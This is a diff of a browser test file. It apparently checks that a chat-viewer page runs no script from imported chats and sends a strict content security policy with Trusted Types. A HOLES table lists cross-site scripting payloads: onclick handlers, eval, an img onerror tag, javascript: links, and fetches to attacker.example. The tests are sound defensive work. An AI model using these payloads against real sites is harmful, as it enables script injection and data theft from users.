@@ -113,6 +113,7 @@ def test_28_names_errors_tools_and_files_run_nothing(context: BrowserContext, fa
     path.write_text(json.dumps(chats))
     page.set_input_files("#file", path)
     expect(page.locator(".chat-name")).to_have_count(2)
+    expect(page.locator(".message.assistant")).to_contain_text(evil)
     assert page.evaluate("window.runs") == 0
     assert page.locator("img, script[src], iframe").count() == 0
 
@@ -124,6 +125,8 @@ HOLES = {
     "an inline handler": "add('b', {onclick: 'pwned()'}).click()",
     "eval": "window.eval('pwned()')",
     "HTML": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwned()>'); await later()",
+    "HTML without a handler": "document.body.innerHTML = '<b>x</b>'; pwned()",
+    "another wall's policy": "trustedTypes.createPolicy('other', {}); pwned()",
     "a javascript: address": "add('a', {href: 'javascript:pwned()'}).click(); await later()",
     "a request elsewhere": "await fetch('https://attacker.example/').catch(() => 0)",
     "a picture from elsewhere": "add('img', {src: 'https://attacker.example/x.png'}); await later()",
@@ -170,5 +173,6 @@ def test_28_headers_of_both_pages(server_url: str, context: BrowserContext) -> N
         assert parts["connect-src"] == "'self'" and parts["img-src"] == "data:"
         assert parts["script-src"].startswith("'self' 'sha256-") and "unsafe" not in policy
         assert parts["style-src"].startswith("'self' 'sha256-")
+        assert parts["require-trusted-types-for"] == "'script'" and parts["trusted-types"] == "dompurify"
         assert response.headers["x-content-type-options"] == "nosniff"
         assert response.headers["referrer-policy"] == "no-referrer"
